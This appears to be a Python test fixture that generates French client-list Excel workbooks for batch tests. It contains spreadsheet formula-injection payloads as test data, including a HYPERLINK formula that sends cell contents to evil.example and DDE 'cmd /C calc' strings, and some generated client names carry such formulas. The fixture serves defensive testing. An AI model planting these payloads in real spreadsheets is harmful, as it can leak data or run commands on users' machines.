"""Spreadsheets as advisers make them, for the batch tests (imported by tests/test_batch_*.py and the trials)."""

from __future__ import annotations

import datetime as dt
import io

# Hostile values, each one something a spreadsheet would execute or interpret if written as it is.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+33 1 23 45 67 89", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]

# (postal code, commune understood): postal codes that one commune has, in the BUD and outside it.
POSTAL = [("62800", "Liévin"), ("59000", "Lille"), ("62210", "Avion"), ("59450", "Sin-le-Noble"),
          ("62440", "Harnes"), ("62950", "Noyelles-Godault")]


def client_workbook(count: int = 200, *, formula_names: bool = True) -> bytes:
    """A client list as made in Excel or LibreOffice: real dates, amounts typed with «€» (text), postal codes in a
    «Commune» column, INSEE codes in another, a SIREN, yes/no answers, a formula in a client's name."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Clients"
    sheet.append(["Raison sociale", "SIREN", "Date de création", "Commune", "Activité", "Origine", "Effectif",
                  "Chiffre d'affaires", "Total du bilan", "Part du capital détenue par d'autres sociétés (%)",
                  "Siège, activité et moyens d'exploitation dans le bassin", "salaries_eligibles",
                  "salaries_eligibles_residents_bud", "Notes"])
    activities = ["Commerciale", "artisanale", "industrielle", "libérale", "commerciale"]
    for index in range(count):
        postal, _ = POSTAL[index % len(POSTAL)]
        name = f"Client {index + 1:03d} SARL"
        if formula_names and index % 50 == 7:
            name = '=HYPERLINK("http://evil.example/","Client piégé")'
        created = dt.datetime(2018 + index % 8, 1 + index % 12, 1 + index % 28)
        amount = f"{100_000 + index * 1_250:,} €".replace(",", "\u00a0") if index % 2 else 90_000 + index * 10
        sheet.append([name, None, created, postal if index % 3 else int(postal), activities[index % 5],
                      "création pure" if index % 4 else "reprise", 2 + index % 30, amount, "80 000 €", 0,
                      "oui" if index % 5 else "non", 2, 1, "=1+1" if index == 3 else f"suivi n° {index}"])
        cell = sheet.cell(row=index + 2, column=3)
        cell.number_format = "DD/MM/YYYY"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
